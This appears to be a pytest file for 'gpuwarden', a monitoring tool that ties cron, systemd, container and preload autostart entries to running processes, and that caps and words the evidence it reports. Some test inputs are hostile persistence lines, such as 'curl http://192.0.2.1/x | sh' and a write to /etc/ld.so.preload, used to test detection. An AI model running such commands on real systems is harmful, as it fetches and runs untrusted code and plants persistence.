"""Autostarts and whose they are: roots, users, units, parents; what is said of them, and floods."""

from __future__ import annotations

from typing import Any

import pytest
from msgspec.structs import replace

from gpuwarden.model import (
    CgroupPlacement,
    Executable,
    PersistenceEntry,
    Process,
)
from gpuwarden.rules import autostart_index
from gpuwarden.rules.autostart_ties import Tie
from gpuwarden.rules.respawn import SHOWN_LIMIT, observe
from gpuwarden.sensors.process.fan_out import in_child
from tests.support.autostarts import (
    DASH,
    PYTHON,
    RIG,
    SLEEP,
    entry,
    node_of,
    process,
    tie,
    told,
)

# -------------------------------------------------------------------- roots, users, units


def test_another_roots_path_is_another_file_unless_the_line_goes_in_there() -> None:
    inside = process(
        replace(RIG, path_is_genuine=None), cgroup=CgroupPlacement(container_id="c" * 64)
    )
    assert tie(entry("/home/alice/rig"), inside) is None
    assert tie(entry("docker exec box /home/alice/rig"), inside) is not None
    same_file = entry("/srv/rig", {"/srv/rig": RIG})
    assert tie(same_file, inside) == Tie("file", True, "file")
    script = process(replace(PYTHON, inode=99), "/opt/t.py", cgroup=inside.cgroup)
    assert tie(entry("python3 /opt/t.py"), script) is None


def test_a_file_that_lies_about_its_path_is_not_tied_by_it() -> None:
    assert tie(entry("/home/alice/rig"), process(replace(RIG, path_is_genuine=False))) is None


@pytest.mark.parametrize(
    ("user", "command", "sure"),
    [
        ("alice", "/home/alice/rig", True),
        ("1000", "/home/alice/rig", True),
        (None, "/home/alice/rig", True),
        ("bob", "/home/alice/rig", None),
        ("bob", "sudo -u alice /home/alice/rig", True),
        ("bob", "DAEMON=/home/alice/rig", None),
        ("root", "/home/alice/rig", False),
        ("root", "su alice -c /home/alice/rig", True),
    ],
)
def test_a_line_starts_things_for_its_user(
    user: str | None, command: str, sure: bool | None
) -> None:
    found = tie(entry(command, user=user), process(RIG))
    assert (None if found is None else found.sure) is sure
    if sure is False:
        assert found is not None and "under another user" in found.noun


def test_whose_number_has_no_name_is_not_taken_for_another_user() -> None:
    runs = process(RIG, user=None)
    assert tie(entry("/home/alice/rig", user="alice"), runs) == Tie("path", True, "path")
    root = process(RIG, user=None, uid=0)
    assert tie(entry("/home/alice/rig", user="alice"), root) is None
    assert tie(entry("/home/alice/rig", user="root"), root) == Tie("path", True, "path")


def unit(name: str, path: str, **fields: Any) -> PersistenceEntry:
    return entry("/x/y", {}, "systemd-service", unit=name, path=path, **fields)


SYSTEM = "/etc/systemd/system/w@.service"
HOME = "/home/alice/.config/systemd/user/w.service"


@pytest.mark.parametrize(
    ("one", "placement", "tied"),
    [
        (unit("w.service", SYSTEM), CgroupPlacement(unit="w.service"), True),
        (unit("w@.service", SYSTEM), CgroupPlacement(unit="w@7.service"), True),
        (unit("w@8.service", SYSTEM), CgroupPlacement(unit="w@7.service"), False),
        (unit("w.service", SYSTEM), CgroupPlacement(unit="v.service"), False),
        (unit("w.service", SYSTEM), CgroupPlacement(unit="w.service", user_slice_uid=1000), False),
        (unit("w.service", HOME), CgroupPlacement(unit="w.service"), False),
        (unit("w.service", HOME), CgroupPlacement(unit="w.service", user_slice_uid=1000), True),
        (
            unit("w.service", HOME, owner_uid=1001),
            CgroupPlacement(unit="w.service", user_slice_uid=1000),
            False,
        ),
        (
            unit("w.service", "/usr/lib/systemd/user/w.service", owner_uid=0),
            CgroupPlacement(unit="w.service", user_slice_uid=1000),
            True,
        ),
        (entry("/x/y", {}, "supervisord", unit="w"), CgroupPlacement(unit="w"), False),
    ],
)
def test_a_unit_is_tied_by_the_group_it_lives_in(
    one: PersistenceEntry, placement: CgroupPlacement, tied: bool
) -> None:
    found = tie(one, process(RIG, cgroup=placement))
    assert (found is not None) is tied
    if found is not None:
        assert (found.kind, found.sure) == ("unit", True)


@pytest.mark.parametrize(
    "placement", [CgroupPlacement(unit="other.service"), CgroupPlacement(session="3")]
)
def test_what_lives_outside_of_a_unit_was_not_started_by_it(placement: CgroupPlacement) -> None:
    one = entry("/home/alice/rig", kind="systemd-service", unit="rig.service")
    (evidence,) = told(one, process(RIG, cgroup=placement))
    assert evidence.strength == "weak"
    assert evidence.text.startswith("perhaps started again by systemd-service")
    assert "outside of that unit" in evidence.text
    (evidence,) = told(one, process(RIG))
    assert evidence.strength == "strong"


def test_containers_are_tied_by_their_id_and_by_nothing_else() -> None:
    name = "a" * 64
    one = PersistenceEntry(
        kind="container-restart", path=f"docker:{name}", commands=("/home/alice/rig",), unit="box"
    )
    assert tie(one, process(RIG)) is None
    nested = CgroupPlacement(container_id="b" * 64, chain=(f"docker:{name}", "container:b"))
    for placement in (CgroupPlacement(container_id=name), nested):
        (evidence,) = told(one, process(RIG, cgroup=placement))
        assert (evidence.kind, evidence.strength) == (None, "fact")
        assert "tied by its container" in evidence.text


# -------------------------------------------------------------------- parents


def test_a_script_above_a_process_is_named_as_such() -> None:
    runs = process(SLEEP, "600", ppid=400)
    above = process(DASH, "/opt/w.sh", pid=400, ppid=300)
    (evidence,) = told(entry("/opt/w.sh"), runs, above)
    assert "tied by the script /opt/w.sh of a process above it" in evidence.text


@pytest.mark.parametrize(
    "launcher",
    [
        process(Executable(path="/usr/sbin/sshd"), pid=400),
        process(Executable(path="/usr/sbin/cron"), pid=400),
        process(PYTHON, "/usr/bin/supervisord", pid=400),
        process(Executable(path="/usr/lib/x/anything"), pid=1),
    ],
)
def test_what_starts_a_launcher_does_not_start_what_that_launches(launcher: Process) -> None:
    runs = process(RIG, ppid=launcher.pid)
    line = " ".join(launcher.argv or ())
    assert told(entry(line, {}), runs, launcher) == []
    assert told(entry(line, {}), launcher) != []


def test_a_launcher_in_a_place_of_its_own_is_none() -> None:
    above = process(Executable(path="/home/alice/sshd"), pid=400)
    assert told(entry("/home/alice/sshd", {}), process(RIG, ppid=400), above) != []


def test_a_launchers_unit_is_not_what_starts_a_job_of_it() -> None:
    placement = CgroupPlacement(unit="cron.service")
    cron = process(Executable(path="/usr/sbin/cron"), pid=400, cgroup=placement)
    one = unit("cron.service", "/usr/lib/systemd/system/cron.service")
    assert told(one, process(RIG, ppid=400, cgroup=placement), cron) == []
    assert told(one, cron) != []


# -------------------------------------------------------------------- what is said


def test_what_a_match_rests_on_is_said_and_a_weak_one_is_called_perhaps() -> None:
    (evidence,) = told(entry("/home/alice/rig -x"), process(RIG))
    assert (
        evidence.text
        == "started again by cron /etc/cron.d/x:3, tied by its path: /home/alice/rig -x"
    )
    assert (evidence.kind, evidence.strength) == ("persistence", "strong")
    (evidence,) = told(entry("sleep 600"), process(SLEEP, "600"))
    assert (
        evidence.text
        == "perhaps started again by cron /etc/cron.d/x:3, tied by its words alone: sleep 600"
    )
    assert evidence.strength == "weak"


@pytest.mark.parametrize(
    ("command", "runs", "strength"),
    [
        ("cp /a /home/alice/rig && /home/alice/rig; rm -f /b", process(RIG), "strong"),
        ("/home/alice/rig=/x; echo a > /etc/ld.so.preload", process(RIG), "strong"),
        ("curl http://192.0.2.1/x | sh; sleep 600", process(SLEEP, "600"), "weak"),
    ],
)
def test_an_odd_entry_is_strong_unless_only_common_words_tie_it(
    command: str, runs: Process, strength: str
) -> None:
    (evidence,) = told(entry(command), runs)
    assert evidence.strength == strength
    assert "; the entry " in evidence.text


def test_a_units_command_is_shown_before_its_settings() -> None:
    settings = "Type=simple; Restart=always"
    one = entry("/home/alice/rig -x", kind="systemd-service", unit="r.service", text=settings)
    (evidence,) = told(one, process(RIG))
    assert evidence.text.endswith(f": /home/alice/rig -x ({settings})")


def test_a_preloaded_library_is_no_start() -> None:
    one = PersistenceEntry(kind="preload", path="/etc/ld.so.preload", commands=("/home/alice/rig",))
    assert told(one, process(RIG)) == []


# -------------------------------------------------------------------- floods


def test_more_entries_than_are_told_are_counted_and_the_strongest_come_first() -> None:
    flood = tuple(entry("rig $x", {}, line=n, owner_uid=1000) for n in range(1, 41))
    real = entry("/home/alice/rig", {}, path="/z", owner_uid=1001)
    runs = process(RIG)
    evidence = list(observe(node_of(runs, entries=(*flood, real)), runs))
    assert len(evidence) == SHOWN_LIMIT + 1
    assert evidence[0].source == "/z"
    assert "25 more autostarts" in evidence[-1].text


def test_one_users_flood_takes_nobody_elses_place_and_is_said() -> None:
    many = autostart_index.COMPARED_LIMIT + 5
    flood = tuple(entry("rig $x", {}, line=n, owner_uid=1000) for n in range(1, many))
    real = entry("/home/alice/rig", {}, path="/z", owner_uid=1001)
    runs = process(RIG)
    evidence = list(observe(node_of(runs, entries=(*flood, real)), runs))
    assert evidence[0].source == "/z"
    assert "were not compared" in evidence[-1].text
    assert not any("compared" in e.text for e in observe(node_of(runs, entries=(real,)), runs))


@pytest.mark.parametrize("piece", ["rig;", "/home/alice/rig ", "sleep 1;", "nohup ", "a=/b/"])
def test_entries_made_to_hurt_are_compared_all_the_same(piece: str) -> None:
    """The deadline only ends a test that would hang."""
    line = (piece * 2000)[:2000]
    flood = tuple(entry(line + str(n), {}, line=n, owner_uid=1000) for n in range(20))
    people = tuple(process(RIG, pid=n) for n in range(2, 200))
    node = node_of(*people, entries=flood)

    def work() -> bytes:
        return repr(sum(len(list(observe(node, one))) for one in people)).encode()

    assert in_child(work, 60)
